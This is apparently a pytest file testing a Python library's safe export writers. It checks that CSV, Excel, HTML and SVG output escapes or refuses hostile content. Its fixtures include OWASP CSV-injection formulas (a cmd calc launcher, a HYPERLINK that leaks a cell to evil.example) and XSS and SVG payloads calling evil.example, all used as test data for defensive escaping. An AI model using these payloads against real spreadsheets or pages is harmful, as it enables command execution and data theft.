"""The safe writers: OWASP formula payloads, Excel's limits, escaped self-contained HTML."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest

from mediaframe.exceptions import ExportError, InvalidParameterError
from mediaframe.reports import excel as excel_module
from mediaframe.reports import (
    export,
    read_parquet,
    risky,
    safe_cell,
    to_csv,
    to_excel,
    to_html,
    to_parquet,
)

#: OWASP's CSV-injection examples and their neighbours, each a text a spreadsheet would run.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "|calc",
    "%0A=1+1",
]
#: Text that must come through untouched.
HARMLESS = ["sunset", "-3", "+4.5", "1e-3", "Ada Lovelace", "", "a=b", "e-mail"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_is_risky_and_gets_a_leading_quote(text):
    assert risky(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_kept(text):
    assert not risky(text)
    assert safe_cell(text) == text


def test_numbers_are_never_touched():
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def test_policy_off_keeps_text_and_a_wrong_policy_names_the_choices():
    assert safe_cell("=1+1", "off") == "=1+1"
    with pytest.raises(InvalidParameterError, match="escape"):
        safe_cell("x", "none")  # type: ignore[arg-type]


@pytest.fixture
def hostile() -> pd.DataFrame:
    frame = pd.DataFrame(
        {
            "title": pd.array([*PAYLOADS, "sunset"], dtype="string"),
            "size": pd.array([-1, *range(len(PAYLOADS))], dtype="Int64"),
            "kind": pd.Categorical(["=kind", *["image"] * len(PAYLOADS)]),
        }
    )
    frame["=1+1"] = -2.5
    return frame


GOLDEN_CSV = (
    "title,size,kind,'=1+1\n"
    "'=cmd|' /C calc'!A0,-1,'=kind,-2.5\n"
    '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Error: click"")",0,image,-2.5\n'
    "'+1+cmd|' /C calc'!A0,1,image,-2.5\n"
    "'-2+3+cmd|' /C calc'!A0,2,image,-2.5\n"
    "'@SUM(1+9)*cmd|' /C calc'!A0,3,image,-2.5\n"
    "'\t=1+1,4,image,-2.5\n"
    '"\'\r=1+1",5,image,-2.5\n'
    '"\'\n=1+1",6,image,-2.5\n'
    "'   =1+1,7,image,-2.5\n"
    "'|calc,8,image,-2.5\n"
    "'%0A=1+1,9,image,-2.5\n"
    "sunset,10,image,-2.5\n"
)


def test_csv_matches_the_golden_file(hostile, tmp_path):
    path = to_csv(hostile, tmp_path / "x.csv")
    assert path.read_bytes().decode() == GOLDEN_CSV.replace(",-2.5\n", ",-2.5\r\n").replace(
        "'=1+1\n", "'=1+1\r\n"
    )


def test_excel_writes_strings_as_strings_with_a_quote_prefix_on_risky_ones(hostile, tmp_path):
    to_excel(hostile, tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]
    assert sheet.freeze_panes == "A2"
    header = list(sheet[1])
    assert [c.value for c in header] == ["title", "size", "kind", "=1+1"]
    assert all(c.font.bold for c in header) and header[3].quotePrefix
    for row, text in enumerate([*PAYLOADS, "sunset"], start=2):
        cell = sheet.cell(row, 1)
        # the value is unchanged (a CR is stored as OOXML's _x000D_ escape, which Excel reads)
        assert cell.value.replace("_x000D_", "\r") == text
        assert cell.data_type == "s"
        assert cell.quotePrefix is (text != "sunset")
    assert sheet.cell(2, 2).value == -1 and sheet.cell(2, 2).data_type == "n"
    assert sheet.cell(2, 4).value == -2.5


def test_excel_dates_become_utc_with_a_note_and_long_cells_are_cut(tmp_path):
    frame = pd.DataFrame(
        {
            "created_on": pd.to_datetime(["2024-06-01T12:00:00+02:00", None], utc=True),
            "long": ["x" * 40_000, "short"],
        }
    )
    to_excel({"records": frame}, tmp_path / "d.xlsx")
    book = openpyxl.load_workbook(tmp_path / "d.xlsx")
    sheet = book["records"]
    assert sheet.cell(1, 1).value == "created_on (UTC)"
    assert sheet.cell(2, 1).value == pd.Timestamp("2024-06-01T10:00:00").to_pydatetime()
    assert sheet.cell(3, 1).value is None
    assert len(sheet.cell(2, 2).value) == 32_767
    notes = [row for row in book["notes"].iter_rows(values_only=True)][1:]
    assert ("records", "created_on (UTC)", "timezone-aware times written in UTC") in notes
    assert any("cut" in note and column == "long" for _, column, note in notes)


def test_sheet_names_are_valid_unique_and_at_most_31_characters(tmp_path):
    one = pd.DataFrame({"v": [1]})
    frames = {"a/b:c*?[x]": one, "A_B_C__[X]": one, "'" + "y" * 40 + "'": one, "History": one}
    to_excel(frames, tmp_path / "n.xlsx")
    names = openpyxl.load_workbook(tmp_path / "n.xlsx").sheetnames
    assert names == ["a_b_c___x_", "A_B_C___X_ (2)", "y" * 31, "History (2)"]


def test_frames_past_the_row_limit_go_on_over_more_sheets(tmp_path, monkeypatch):
    # a lowered limit, to read every value back; the real one: the test below
    monkeypatch.setattr(excel_module, "EXCEL_ROWS", 4)  # three data rows a sheet
    to_excel({"big": pd.DataFrame({"n": range(7)})}, tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    assert book.sheetnames == ["big", "big (2)", "big (3)", "notes"]
    values = [c.value for name in ("big", "big (2)", "big (3)") for c in book[name]["A"][1:]]
    assert values == list(range(7))
    assert all(book[name]["A1"].value == "n" for name in ("big", "big (2)", "big (3)"))


def _cells(book_path, sheet: int) -> dict[int, str]:
    """Row number -> value of column A of a sheet, read from its XML (no spreadsheet library
    walks a million rows quickly)."""
    import zipfile

    with zipfile.ZipFile(book_path) as book:
        xml = book.read(f"xl/worksheets/sheet{sheet}.xml").decode()
    return {int(row): value for row, value in re.findall(r'<c r="A(\d+)"[^>]*><v>([^<]*)</v>', xml)}


def test_the_real_excel_row_limit_is_used_and_a_split_keeps_every_row(tmp_path):
    import xlsxwriter

    from mediaframe.reports.excel import EXCEL_ROWS

    probe = xlsxwriter.Workbook(str(tmp_path / "probe.xlsx"), {"constant_memory": True})
    sheet = probe.add_worksheet()
    assert EXCEL_ROWS == 1_048_576 == sheet.xls_rowmax
    assert sheet.write_number(EXCEL_ROWS - 1, 0, 1) == 0  # the last row a sheet has...
    assert sheet.write_number(EXCEL_ROWS, 0, 1) == -1  # ...and none past it
    probe.close()
    # one row past a full sheet (header + 1,048,575 rows): the split is at the real limit.
    # Only the rows at the seams hold a value (the others are empty cells, skipped), so the
    # workbook stays small and the test quick; every row still goes through the writer.
    rows = EXCEL_ROWS + 1
    seams = [0, 1, EXCEL_ROWS - 2, EXCEL_ROWS - 1, EXCEL_ROWS]
    column = pd.Series(pd.NA, index=range(rows), dtype="Int64")
    column[seams] = seams
    path = to_excel({"big": pd.DataFrame({"n": column})}, tmp_path / "big.xlsx")
    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    assert names == ["big", "big (2)", "notes"]
    first, second = _cells(path, 1), _cells(path, 2)
    # frame row i is on sheet i // (EXCEL_ROWS - 1), at spreadsheet row i % (EXCEL_ROWS - 1) + 2
    assert {r: v for r, v in first.items() if r > 1} == {
        2: "0",
        3: "1",
        EXCEL_ROWS: str(EXCEL_ROWS - 2),
    }
    assert {r: v for r, v in second.items() if r > 1} == {
        2: str(EXCEL_ROWS - 1),
        3: str(EXCEL_ROWS),
    }
    notes = pd.read_excel(path, sheet_name="notes")["note"].tolist()
    assert notes == ["rows 1-1,048,575 of 'big'", "rows 1,048,576-1,048,577 of 'big'"]


def test_parquet_reads_back_identical_with_its_provenance(hostile, tmp_path):
    hostile["when"] = pd.to_datetime(["2024-01-01T00:00:00Z"] * len(hostile), utc=True)
    hostile.attrs["harvest"] = {"kind": "records", "query": "sunset", "filters": {"bases": [1]}}
    back = read_parquet(to_parquet(hostile, tmp_path / "x.parquet"))
    pd.testing.assert_frame_equal(back, hostile)
    assert back.attrs["harvest"] == hostile.attrs["harvest"]
    assert pd.read_parquet(tmp_path / "x.parquet").attrs["mediaframe_version"]


def test_parquet_refuses_a_secret_in_the_attrs(tmp_path):
    frame = pd.DataFrame({"a": [1]})
    frame.attrs["provenance"] = {"access_token": "abc"}
    with pytest.raises(ExportError, match="access_token"):
        to_parquet(frame, tmp_path / "x.parquet")
    assert list(tmp_path.iterdir()) == []


XSS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "</td></tr></table><iframe src=https://evil.example>",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)
            self._in_script = False


def test_html_escapes_every_value_name_and_provenance_and_fetches_nothing(tmp_path):
    frame = pd.DataFrame({XSS[0]: XSS, "n": range(len(XSS))})
    path = to_html(
        {XSS[1]: frame},
        tmp_path / "x.html",
        title=XSS[2],
        provenance={"server": XSS[4], "query": XSS[0]},
    )
    page = path.read_text()
    parser = _Tags()
    parser.feed(page)
    names = {tag for tag, _ in parser.tags}
    assert names <= {"html", "head", "meta", "title", "style", "body", "h1", "dl", "dt", "dd",
                     "nav", "h2", "ol", "li", "a", "section", "p", "div", "table", "thead",
                     "tr", "th", "tbody", "td", "script"}  # fmt: skip
    assert not any(k.startswith("on") for _, attrs in parser.tags for k in attrs)
    assert not any("src" in attrs for _, attrs in parser.tags)
    links = [attrs["href"] for tag, attrs in parser.tags if tag == "a"]
    assert links and all(link.startswith("#") for link in links)
    assert len(parser.scripts) == 1 and "alert" not in parser.scripts[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # the policy lets through only the page's own script, by its hash
    csp = next(a["content"] for _, a in parser.tags if a.get("http-equiv", "").endswith("Policy"))
    digest = base64.b64encode(hashlib.sha256(parser.scripts[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in csp and "default-src 'none'" in csp
    assert "mediaframe version" in page and "generated at" in page


def _body_rows(page: str) -> int:
    return page.split("<tbody>", 1)[1].split("</tbody>", 1)[0].count("<tr>")


def test_a_huge_frame_makes_a_page_of_bounded_size_that_says_what_it_left_out(tmp_path):
    from mediaframe.reports.html import MAX_ROWS

    assert MAX_ROWS == 10_000
    huge = pd.DataFrame({"record_id": range(10 * MAX_ROWS), "title": "a title"})
    page = to_html(huge, tmp_path / "huge.html").read_text()
    assert _body_rows(page) == MAX_ROWS
    assert "Showing the first 10,000 of 100,000 rows: 90,000 rows were left out" in page
    assert "to_parquet(frame, path)" in page and "-o FILE.parquet" in page
    assert "Tables longer than 10,000 rows show their first 10,000" in page
    # the page does not grow with the frame
    just_over = to_html(huge.head(MAX_ROWS + 1), tmp_path / "over.html").read_text()
    assert abs(len(page) - len(just_over)) < 100


def test_a_page_shows_every_row_of_a_table_under_the_limit_and_all_when_asked(tmp_path):
    frame = pd.DataFrame({"n": range(25)})
    whole = to_html(frame, tmp_path / "whole.html").read_text()
    assert _body_rows(whole) == 25 and "left out" not in whole
    cut = to_html(frame, tmp_path / "cut.html", max_rows=10).read_text()
    assert _body_rows(cut) == 10 and "15 rows were left out" in cut
    every = to_html(frame, tmp_path / "every.html", max_rows=None).read_text()
    assert _body_rows(every) == 25
    for bad in (-1, "10", 2.5, True):
        with pytest.raises(InvalidParameterError, match="max_rows"):
            to_html(frame, tmp_path / "bad.html", max_rows=bad)


def test_html_embeds_figures_as_inline_svg_without_outside_links(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.bar(["<script>alert(1)</script>", "b"], [3, 4])
    ax.set_title('<img src=x onerror="alert(1)">')
    page = to_html(pd.DataFrame({"a": [1]}), tmp_path / "f.html", figures={"counts": fig})
    plt.close(fig)
    text = page.read_text()
    assert "<svg" in text and "<script>alert" not in text and "<img" not in text
    assert not re.search(r"(?:href|src)\s*=\s*[\"']?https?:", text)
    assert "<?xml" not in text and "<!DOCTYPE svg" not in text


def test_export_picks_the_writer_by_extension_and_refuses_others(tmp_path):
    frame = pd.DataFrame({"t": ["=1"], "n": [1]})
    for suffix in (".csv", ".xlsx", ".parquet", ".json", ".html"):
        assert export(frame, tmp_path / f"x{suffix}").stat().st_size > 0
    assert (tmp_path / "x.csv").read_text().splitlines()[1] == "'=1,1"
    assert pd.read_csv(tmp_path / "x.csv").to_dict("records") == [{"t": "'=1", "n": 1}]
    assert pd.read_json(tmp_path / "x.json").to_dict("records") == [{"t": "=1", "n": 1}]
    with pytest.raises(ExportError, match=r"\.csv"):
        export(frame, tmp_path / "x.txt")
    with pytest.raises(ExportError, match="one table"):
        export({"a": frame, "b": frame}, tmp_path / "two.csv")


def test_a_failed_export_leaves_the_earlier_file_and_no_partial(tmp_path):
    (tmp_path / "x.xlsx").write_text("earlier")
    with pytest.raises(InvalidParameterError):
        to_excel({"a": "not a frame"}, tmp_path / "x.xlsx")  # type: ignore[dict-item]
    with pytest.raises(ExportError, match="does not exist"):
        to_csv(pd.DataFrame({"a": [1]}), tmp_path / "missing" / "x.csv")
    assert (tmp_path / "x.xlsx").read_text() == "earlier"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.xlsx"]


@pytest.mark.parametrize(
    "svg",
    [
        '<svg><a href="https://evil.example">x</a></svg>',
        "<svg><image href=data:text/html,x /></svg>",
        '<svg onload="alert(1)"></svg>',
        '<svg><image src = "http://evil.example/x.png"/></svg>',
        "<svg><foreignObject><iframe></iframe></foreignObject></svg>",
        "<p>not an svg</p>",
    ],
)
def test_svg_text_that_could_fetch_or_run_is_refused(svg):
    from mediaframe.reports.html import clean_svg

    with pytest.raises(ExportError):
        clean_svg(svg)


def test_svg_may_link_inside_itself_and_embed_images():
    from mediaframe.reports.html import clean_svg

    svg = '<svg><use xlink:href="#a"/><image xlink:href="data:image/png;base64,AA"/></svg>'
    assert clean_svg(svg) == svg
